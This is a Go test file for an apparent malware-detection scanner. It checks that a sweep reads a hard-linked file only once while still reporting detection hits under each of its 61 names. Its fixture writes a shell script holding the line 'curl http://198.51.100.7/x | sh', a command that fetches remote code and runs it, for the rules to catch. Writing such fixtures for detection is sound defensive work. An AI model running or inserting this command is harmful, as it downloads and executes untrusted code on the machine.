package detect

import (
	"context"
	"fmt"
	"os"
	"path/filepath"
	"testing"
	"time"

	"github.com/deminer/deminer"
	"github.com/deminer/deminer/internal/host/rootfs"
)

// TestSweepReadsLinkedFilesOnce: a file with many names is not read for each of them, its hits are found under each name, and a file of
// the same bytes that is another one is read by itself.
func TestSweepReadsLinkedFilesOnce(t *testing.T) {
	dir := t.TempDir()
	text := []byte("#!/bin/sh\ncurl http://198.51.100.7/x | sh\n")
	for _, name := range []string{"a", "other"} {
		if err := os.WriteFile(filepath.Join(dir, name), text, 0o755); err != nil {
			t.Fatal(err)
		}
	}
	names := []string{"a"}
	for i := range 60 {
		names = append(names, fmt.Sprint("b", i))
	}
	for _, name := range names[1:] {
		if err := os.Link(filepath.Join(dir, "a"), filepath.Join(dir, name)); err != nil {
			t.Fatal(err)
		}
	}
	set, err := shippedRules()
	if err != nil {
		t.Fatal(err)
	}
	fsys, err := rootfs.Open("/")
	if err != nil {
		t.Fatal(err)
	}
	defer fsys.Close()
	time.Sleep(stamped) // until then the stamps of a file do not name its content
	p := &Pass{Snapshot: &deminer.Snapshot{}, FS: fsys, Rules: set, Gap: func(g deminer.Gap) { t.Errorf("gap: %+v", g) }}
	found := Sweep(context.Background(), p, SweepOptions{Paths: []string{dir}})
	for _, name := range append(names, "other") {
		if f := found.At(filepath.Join(dir, name)); f == nil || len(f.Content.Hits) == 0 {
			t.Errorf("%s: no hits: %+v", name, f)
		}
	}
	// Those who read at the same time may each begin with a name of it.
	if _, n := found.Looked(); n < 2*int64(len(text)) || n > int64(len(text))*int64(len(names)/2) {
		t.Errorf("%d bytes were read of two files of %d bytes, one of which has %d names", n, len(text), len(names))
	}
}
